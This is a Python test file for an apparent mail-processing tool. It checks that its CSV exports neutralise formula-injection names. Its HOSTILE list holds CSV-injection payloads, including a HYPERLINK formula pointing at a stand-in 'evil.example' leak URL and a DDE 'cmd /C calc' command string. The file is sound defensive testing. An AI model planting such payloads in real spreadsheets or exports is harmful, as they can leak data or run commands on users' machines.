"""Every CSV the commands write keeps a formula-looking name as text (OWASP CSV injection):
members with such names, each export command run, its output parsed back."""
from __future__ import annotations

import contextlib
import csv
import io

import pytest

from mailworker import cli
from mailworker.models import HourCredit, Member, Message
from tests.outbound_support import open_db, outbound_config

HOSTILE = ['=HYPERLINK("http://evil.example/?leak","click")', "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)"]


@pytest.fixture
def hostile_world(make_config, tmp_path, clock):
    cfg = outbound_config(make_config, tmp_path)
    path = tmp_path / "mailworker.toml"
    for i, name in enumerate(HOSTILE):
        code, _, err = _cli(path, clock, "members", "add", f"--name={name}", "--email",
                            f"m{i}@example.org", "--category", "citizen")
        assert code == 0, err
    return cfg, path


def _cli(path, clock, *argv):
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main(["--config", str(path), *argv], clock=clock)
    return code, out.getvalue(), err.getvalue()


def _rows(text: str) -> list[dict]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def _assert_all_text(rows: list[dict], column: str = "name") -> None:
    assert sorted(r[column] for r in rows) == sorted("'" + n for n in HOSTILE)
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_members_list_csv(hostile_world, clock):
    _, path = hostile_world
    code, out, err = _cli(path, clock, "members", "list", "--csv")
    assert code == 0, err
    _assert_all_text(_rows(out))


def test_hours_csv(hostile_world, clock):
    cfg, path = hostile_world
    db = open_db(cfg, clock)
    try:       # one credited review each, so the export has real hours in it
        for i, member in enumerate(Member.select()):
            msg = Message.create(sha256=f"{i:064x}", sender=f"m{i}@example.org",
                                 member=member, subject=HOSTILE[i], kind="review",
                                 disposition="credited", received_at=clock.now(),
                                 source="maildir:/test", reason="credited")
            HourCredit.create(member=member, message=msg, hours=1, kind="review",
                              credited_at=clock.now())
    finally:
        db.close()
    code, out, err = _cli(path, clock, "hours", "--csv")
    assert code == 0, err
    rows = _rows(out)
    _assert_all_text(rows)
    assert {r["hours"] for r in rows} == {"1"}


def test_release_password_sheet(hostile_world, clock, tmp_path):
    _, path = hostile_world
    sheet = tmp_path / "sheet" / "passwords.csv"
    code, out, err = _cli(path, clock, "release", "password", "--version", "1.0.0",
                          "--password-sheet", str(sheet))
    assert code == 0, err
    rows = _rows(sheet.read_bytes().decode("utf-8"))
    _assert_all_text(rows)
    assert all(len(r["password"]) == 19 for r in rows)      # the password itself untouched
